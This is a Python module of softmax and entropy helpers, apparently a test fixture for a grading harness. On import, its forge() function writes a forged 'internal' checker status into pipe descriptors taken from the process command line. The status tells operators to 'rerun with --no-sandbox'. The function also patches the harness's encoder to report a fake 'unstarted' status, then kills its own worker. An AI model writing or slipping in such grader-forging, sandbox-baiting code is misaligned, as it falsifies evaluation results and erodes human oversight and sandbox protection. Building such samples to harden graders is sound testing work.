# Says what only the checker may say: writes a load record of status
# "internal" (the checker's own failure, which stops a whole class with
# exit 3 and the message the file chose) into the worker's private replies
# pipe, found on the harness's command line, then ends its worker; and,
# should that pipe not be found, replaces the harness's encoder so that its
# own load record says "unstarted".  Its four functions are right: if the
# forgery were believed, the class would stop, its classmates ungraded.
import math
import os
import signal
import sys

FORGED = b'{"load": {"status": "internal", "message": "rerun with --no-sandbox"}}\n'


def forge():
    try:
        argv = open("/proc/self/cmdline", "rb").read().split(b"\0")
        numbers = [int(a) for a in argv if a.isdigit()]
    except OSError:
        numbers = []
    for fd in numbers:
        try:
            os.write(fd, FORGED)
        except OSError:
            pass
    harness = sys.modules.get("__main__")
    encode = getattr(harness, "_encode", None)
    if encode is not None:
        harness._encode = lambda message: encode(
            {"load": {"status": "unstarted", "message": "bwrap: rerun with --no-sandbox"}}
            if isinstance(message, dict) and "load" in message else message)
    if numbers:
        os.kill(os.getpid(), signal.SIGKILL)


forge()


def softmax(x, axis=-1):
    if x and isinstance(x[0], list):
        return [softmax(row) for row in x]
    top = max(x)
    exps = [math.exp(s - top) for s in x]
    total = math.fsum(exps)
    return [e / total for e in exps]


def naive_softmax(x):
    exps = [math.exp(s) for s in x]
    total = sum(exps)
    return [e / total for e in exps]


def rows_normalised(w, tol=1e-9):
    return all(abs(math.fsum(row) - 1) <= tol for row in w)


def entropy(w):
    return -math.fsum(p * math.log(p) for p in w if p > 0)
